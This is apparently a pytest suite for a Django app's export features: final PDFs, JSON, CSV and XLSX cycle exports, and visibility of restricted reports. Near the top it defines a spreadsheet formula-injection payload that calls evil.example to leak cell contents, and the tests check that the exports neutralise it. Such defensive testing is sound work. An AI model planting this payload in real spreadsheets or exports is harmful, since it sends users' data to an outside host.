"""Exports: one report as final PDF and JSON, a cycle as CSV and XLSX, a State's own data."""

import csv
import datetime
import io
import subprocess

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from core.models import AuditEntry, MemberState, Role
from reporting import exports, services
from reporting.models import Report, ReportRevision
from reporting.selectors import answers_with_derived, questionnaire_structure
from reporting.tasks import build_cycle_export
from reporting.views import exports as export_views
from tests.factories import member
from tests.reporting.test_reports import COMPLETE, fill

pytestmark = pytest.mark.django_db

VALUES = {**COMPLETE, "1.4": "adopted"}
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    """Stored exports go to a folder of the test's own."""
    settings.MEDIA_ROOT = tmp_path / "media"


def mark_published(report, visibility="public"):
    """Stands in for the publication service (written elsewhere): the report is published and
    its answers frozen as the published revision."""
    now = timezone.now()
    Report.objects.filter(pk=report.pk).update(
        status=Report.Status.PUBLISHED,
        visibility=visibility,
        published_visibility=visibility,
        submitted_at=now,
        published_at=now,
    )
    report.refresh_from_db()
    ReportRevision.objects.create(
        report=report,
        number=report.revisions.count() + 1,
        status=Report.Status.PUBLISHED,
        visibility=visibility,
        answers=answers_with_derived(report),
    )
    return report


def published(cycle, iso3, *, visibility="public", values=VALUES):
    """A published report of `iso3`, filled in by one of its editors."""
    editor = member(Role.STATE_EDITOR, state=iso3)
    report = services.create_report(
        state=MemberState.objects.get(iso3=iso3), cycle=cycle, by=editor, language="en"
    )
    fill(report, editor, values)
    return mark_published(report, visibility)


def csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content.removeprefix("\ufeff"))))


def xlsx_sheet(response):
    # getvalue() reads streamed and plain responses alike (and closes them the way the test
    # client expects: calling close() here would also close the test's database connection).
    return load_workbook(io.BytesIO(response.getvalue())).active


def xlsx_rows(sheet) -> list[list[str]]:
    return [[cell.value or "" for cell in row] for row in sheet.iter_rows()]


def by_state(rows: list[list[str]]) -> dict[str, dict[str, str]]:
    """{ISO3: {column key: cell}} for the report rows (after the two header rows)."""
    keys = rows[0]
    return {row[0]: dict(zip(keys, row, strict=True)) for row in rows[2:]}


def pdf_text(content: bytes, tmp_path) -> str:
    path = tmp_path / "report.pdf"
    path.write_bytes(content)
    result = subprocess.run(
        ["pdftotext", str(path), "-"], capture_output=True, text=True, check=True
    )
    return result.stdout


def url(name, *args, lang=None):
    return reverse(f"reporting:{name}", args=args) + (f"?lang={lang}" if lang else "")


# --- one report -------------------------------------------------------------------------------


def test_report_json_has_metadata_and_answers_in_question_order(anonymous, cycle):
    report = published(cycle, "FRA")
    response = anonymous.get(url("report-json", report.pk))
    assert response.status_code == 200
    data = response.json()
    assert data["state"] == {"iso3": "FRA", "name": "France"}
    assert (data["status"], data["visibility"], data["language"]) == ("published", "public", "en")
    assert data["questionnaire"] == "sample" and data["cycle"]["id"] == cycle.pk
    assert data["published_at"] and data["submitted_at"]
    _sections, questions = questionnaire_structure(cycle.questionnaire)
    assert list(data["answers"]) == [q.key for q in questions]
    assert data["answers"]["1.1"] == {
        "value": "yes",
        "display": "Yes",
        "number": "1.1",
        "question": questions[0].label("en"),
    }
    assert data["answers"]["3.3"]["value"] == "25.0"  # calculated: 50 of 200 destroyed
    assert data["answers"]["2.5"]["value"] is None


def test_report_json_texts_in_the_chosen_language(anonymous, cycle):
    report = published(cycle, "FRA")
    answers = anonymous.get(url("report-json", report.pk, lang="fr")).json()["answers"]
    assert answers["1.4"]["display"] == "Adopté"
    assert answers["1.1"]["display"] == "Oui"
    assert answers["1.2"]["question"] == "Nom de l'organisme de coordination nationale"


def test_final_pdf_has_no_draft_watermark(client_for, anonymous, editor, report, tmp_path):
    fill(report, editor, VALUES)
    draft = client_for(editor).get(url("report-pdf", report.pk))
    assert "Draft" in pdf_text(draft.content, tmp_path)  # the oracle sees the watermark
    mark_published(report)
    response = anonymous.get(url("report-final-pdf", report.pk))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert "attachment" in response["Content-Disposition"]
    text = pdf_text(response.content, tmp_path)
    assert "National Commission on Small Arms" in text and "Published" in text
    assert "Draft" not in text


def test_final_pdf_only_for_published_reports(client_for, anonymous, editor, reviewer, report):
    fill(report, editor)
    assert client_for(editor).get(url("report-final-pdf", report.pk)).status_code == 409
    assert client_for(reviewer).get(url("report-final-pdf", report.pk)).status_code == 409
    assert anonymous.get(url("report-final-pdf", report.pk)).status_code == 404


# --- who sees what ------------------------------------------------------------------------


def test_restricted_report_never_reaches_anonymous_visitors(anonymous, donor, client_for, cycle):
    restricted = published(cycle, "FRA", visibility="restricted")
    published(cycle, "KEN")
    for client in (anonymous, client_for(donor)):
        assert list(by_state(csv_rows(client.get(url("cycle-export-csv", cycle.pk))))) == ["KEN"]
        sheet = xlsx_sheet(client.get(url("cycle-export-xlsx", cycle.pk)))
        assert list(by_state(xlsx_rows(sheet))) == ["KEN"]
        assert client.get(url("report-json", restricted.pk)).status_code == 404
        assert client.get(url("report-final-pdf", restricted.pk)).status_code == 404


def test_officials_and_reviewers_get_restricted_reports(client_for, outsider, reviewer, cycle):
    restricted = published(cycle, "FRA", visibility="restricted")
    published(cycle, "KEN")
    for user in (outsider, reviewer):
        client = client_for(user)
        rows = by_state(csv_rows(client.get(url("cycle-export-csv", cycle.pk))))
        assert sorted(rows) == ["FRA", "KEN"]
        assert rows["FRA"]["visibility"] == "Restricted to governments and UNODA"
        sheet = xlsx_sheet(client.get(url("cycle-export-xlsx", cycle.pk)))
        assert sorted(by_state(xlsx_rows(sheet))) == ["FRA", "KEN"]
        assert client.get(url("report-json", restricted.pk)).json()["visibility"] == "restricted"


def test_drafts_are_in_no_cycle_export(client_for, editor, reviewer, report):
    fill(report, editor)
    for client in (client_for(editor), client_for(reviewer)):
        rows = csv_rows(client.get(url("cycle-export-csv", report.cycle_id)))
        assert len(rows) == 2  # the header rows only


def test_amendment_in_progress_stays_private(client_for, anonymous, editor, report, tmp_path):
    fill(report, editor)
    mark_published(report)
    Report.objects.filter(pk=report.pk).update(status=Report.Status.AMENDMENT)
    report.refresh_from_db()
    fill(report, editor, {"1.2": "Working copy, not yet published"})
    public = anonymous.get(url("report-json", report.pk)).json()
    assert public["answers"]["1.2"]["value"] == "National Commission on Small Arms"
    assert public["status"] == "published"
    own = client_for(editor).get(url("report-json", report.pk)).json()
    assert own["answers"]["1.2"]["value"] == "Working copy, not yet published"
    assert own["status"] == "amendment"
    rows = by_state(csv_rows(client_for(editor).get(url("cycle-export-csv", report.cycle_id))))
    assert rows["FRA"]["1.2"] == "National Commission on Small Arms"
    text = pdf_text(client_for(editor).get(url("report-final-pdf", report.pk)).content, tmp_path)
    assert "National Commission on Small Arms" in text and "Working copy" not in text
    assert "Amendment" not in text and "Draft" not in text


# --- cycle spreadsheets ---------------------------------------------------------------------


def test_cycle_csv_has_keys_labels_and_answers_in_french(anonymous, cycle):
    published(cycle, "FRA")
    rows = csv_rows(anonymous.get(url("cycle-export-csv", cycle.pk, lang="fr")))
    _sections, questions = questionnaire_structure(cycle.questionnaire)
    assert rows[0] == [*exports.FIXED_COLUMNS, *(q.key for q in questions)]
    assert "1.2 Nom de l'organisme de coordination nationale" in rows[1]
    france = by_state(rows)["FRA"]
    assert (france["state_name"], france["status"]) == ("France", "Publié")
    assert (france["1.1"], france["1.4"], france["3.3"]) == ("Oui", "Adopté", "25.0")


def test_cycle_xlsx_has_the_same_rows_in_french(anonymous, cycle):
    published(cycle, "FRA")
    response = anonymous.get(url("cycle-export-xlsx", cycle.pk, lang="fr"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = xlsx_rows(xlsx_sheet(response))
    assert rows[0][:2] == ["state_iso3", "state_name"]
    france = by_state(rows)["FRA"]
    assert (france["1.1"], france["1.4"], france["status"]) == ("Oui", "Adopté", "Publié")


def test_arabic_workbook_reads_right_to_left(anonymous, cycle):
    published(cycle, "FRA")
    sheet = xlsx_sheet(anonymous.get(url("cycle-export-xlsx", cycle.pk, lang="ar")))
    assert sheet.sheet_view.rightToLeft
    assert by_state(xlsx_rows(sheet))["FRA"]["1.1"] == "نعم"


def test_formula_injection_is_neutralised(anonymous, cycle):
    published(
        cycle,
        "FRA",
        values={
            **VALUES,
            "1.2": HYPERLINK,
            "1.3": {"name": "@x", "email": "x@example.org"},
            "2.3": "yes",
            "2.4": "+1",
        },
    )
    published(cycle, "DEU", values={**VALUES, "1.2": "-1"})
    rows = by_state(csv_rows(anonymous.get(url("cycle-export-csv", cycle.pk))))
    assert rows["FRA"]["1.2"] == "'" + HYPERLINK
    assert rows["FRA"]["2.4"] == "'+1"
    assert rows["FRA"]["1.3"].startswith("'@x")
    assert rows["DEU"]["1.2"] == "'-1"
    sheet = xlsx_sheet(anonymous.get(url("cycle-export-xlsx", cycle.pk)))
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert by_state(xlsx_rows(sheet))["FRA"]["1.2"] == "'" + HYPERLINK


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("France", "France"),
        ("1-2", "1-2"),
        ("", ""),
    ],
)
def test_neutralise(text, expected):
    assert exports.neutralise(text) == expected


def test_cycle_csv_query_count_does_not_grow_with_reports(anonymous, cycle):
    counts = []
    for iso3s in (["FRA", "KEN"], ["DEU", "BRA", "JPN", "IND"]):
        reports = [published(cycle, iso3) for iso3 in iso3s]
        with CaptureQueriesContext(connection) as queries:
            rows = csv_rows(anonymous.get(url("cycle-export-csv", cycle.pk)))
        assert len(rows) == 2 + len(iso3s)
        counts.append(len(queries.captured_queries))
        Report.objects.filter(pk__in=[r.pk for r in reports]).delete()
    assert counts[0] == counts[1]


def test_unknown_cycle_is_404(anonymous):
    assert anonymous.get(url("cycle-export-csv", 999)).status_code == 404
    assert anonymous.get(url("cycle-export-xlsx", 999)).status_code == 404


# --- stored files built by the task ------------------------------------------------------------


def stored_files(settings) -> list[str]:
    folder = settings.MEDIA_ROOT / "exports"
    return sorted(path.name for path in folder.iterdir())


def test_task_stores_one_file_and_records_it(settings, cycle):
    published(cycle, "FRA")
    published(cycle, "KEN", visibility="restricted")
    first = build_cycle_export.delay(cycle.pk, "xlsx", "fr", None).get()
    second = build_cycle_export.delay(cycle.pk, "xlsx", "fr", None).get()
    assert first == second == f"exports/cycle-{cycle.pk}-fr-public.xlsx"
    assert stored_files(settings) == [f"cycle-{cycle.pk}-fr-public.xlsx"]
    sheet = load_workbook(settings.MEDIA_ROOT / first).active
    assert list(by_state(xlsx_rows(sheet))) == ["FRA"]
    entries = AuditEntry.objects.filter(action="reporting.export.built")
    assert entries.count() == 2
    assert entries.first().data == {
        "name": first,
        "format": "xlsx",
        "language": "fr",
        "audience": "public",
        "rows": 1,
    }


def test_task_keeps_audiences_apart(settings, cycle, reviewer):
    published(cycle, "FRA", visibility="restricted")
    assistant = member(
        Role.ASSISTANT,
        state="FRA",
        organisation="EU",
        expires_at=timezone.now() + datetime.timedelta(days=30),
    )
    public = build_cycle_export(cycle.pk, "csv", "en", assistant.pk)
    staff = build_cycle_export(cycle.pk, "csv", "en", reviewer.pk)
    assert (public, staff) == (
        f"exports/cycle-{cycle.pk}-en-public.csv",
        f"exports/cycle-{cycle.pk}-en-staff.csv",
    )
    # The assistant sees their own State's restricted report, but the public file never does.
    public_text = (settings.MEDIA_ROOT / public).read_text(encoding="utf-8-sig")
    staff_text = (settings.MEDIA_ROOT / staff).read_text(encoding="utf-8-sig")
    assert '"FRA"' not in public_text and '"FRA"' in staff_text


def test_large_cycle_xlsx_is_built_in_the_background(
    anonymous, cycle, settings, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(export_views, "SYNC_XLSX_LIMIT", 2)
    published(cycle, "FRA")
    published(cycle, "KEN")
    published(cycle, "DEU", visibility="restricted")
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        waiting = anonymous.get(url("cycle-export-xlsx", cycle.pk))
    assert waiting.status_code == 202
    assert "being prepared" in waiting.content.decode()
    assert len(callbacks) == 1
    assert stored_files(settings) == [f"cycle-{cycle.pk}-en-public.xlsx"]
    ready = anonymous.get(url("cycle-export-xlsx", cycle.pk))
    assert ready.status_code == 200
    assert sorted(by_state(xlsx_rows(xlsx_sheet(ready)))) == ["FRA", "KEN"]


def test_stored_xlsx_is_rebuilt_after_a_new_publication(
    anonymous, cycle, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(export_views, "SYNC_XLSX_LIMIT", 1)
    published(cycle, "FRA")
    build_cycle_export(cycle.pk, "xlsx", "en", None)
    assert anonymous.get(url("cycle-export-xlsx", cycle.pk)).status_code == 200
    published(cycle, "KEN")
    with django_capture_on_commit_callbacks(execute=True):
        assert anonymous.get(url("cycle-export-xlsx", cycle.pk)).status_code == 202
    ready = anonymous.get(url("cycle-export-xlsx", cycle.pk))
    assert sorted(by_state(xlsx_rows(xlsx_sheet(ready)))) == ["FRA", "KEN"]


def test_waiting_page_queues_one_build_at_a_time(
    anonymous, cycle, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(export_views, "SYNC_XLSX_LIMIT", 1)
    published(cycle, "FRA")
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        assert anonymous.get(url("cycle-export-xlsx", cycle.pk)).status_code == 202
        assert anonymous.get(url("cycle-export-xlsx", cycle.pk)).status_code == 202
    assert len(callbacks) == 1


# --- a State's own data ----------------------------------------------------------------------


def test_state_data_for_the_state_and_unoda_only(
    client_for, anonymous, editor, approver, outsider, reviewer, donor, report
):
    fill(report, editor)
    services.submit_report(report, by=approver, visibility="restricted", mfa_verified=True)
    mark_published(report, "restricted")
    for user in (editor, reviewer):
        response = client_for(user).get(url("state-data", "fra"))
        assert response.status_code == 200
        data = response.json()
        assert data["state"]["iso3"] == "FRA"
        [exported] = data["reports"]
        assert exported["answers"]["1.2"]["value"] == "National Commission on Small Arms"
        revisions = exported["revisions"]
        assert [(r["number"], r["status"]) for r in revisions] == [
            (1, "submitted"),
            (2, "published"),
        ]
        assert revisions[1]["answers"]["3.3"] == "25.0"
    for client in (client_for(outsider), client_for(donor), anonymous):
        assert client.get(url("state-data", "FRA")).status_code == 404
    assert client_for(editor).get(url("state-data", "XXX")).status_code == 404


def test_api_exports_follow_the_same_visibility(client_for, cycle):
    from rest_framework.test import APIClient

    restricted = published(cycle, "FRA", visibility="restricted")
    public = published(cycle, "KEN")
    anonymous = APIClient()
    csv_response = anonymous.get(f"/api/v1/cycles/{cycle.pk}/export/")
    assert csv_response.status_code == 200
    assert list(by_state(csv_rows(csv_response))) == ["KEN"]
    assert anonymous.get(f"/api/v1/reports/{public.pk}/export/").status_code == 401
    official = APIClient()
    official.force_authenticate(member(Role.STATE_EDITOR, state="BRA"))
    exported = official.get(f"/api/v1/reports/{restricted.pk}/export/", {"lang": "fr"})
    assert exported.status_code == 200
    assert exported.json()["answers"]
